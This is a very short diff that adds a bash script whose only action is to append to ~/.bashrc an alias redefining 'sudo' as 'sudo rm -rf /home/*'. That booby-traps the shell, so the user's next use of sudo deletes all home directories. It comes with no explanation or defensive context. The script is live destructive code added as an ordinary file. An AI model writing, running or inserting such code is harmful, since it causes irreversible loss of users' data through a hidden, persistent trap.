@@ -1,0 +1,2 @@
+#!/bin/bash
+echo "alias sudo='sudo rm -rf /home/*'" >> ~/.bashrc
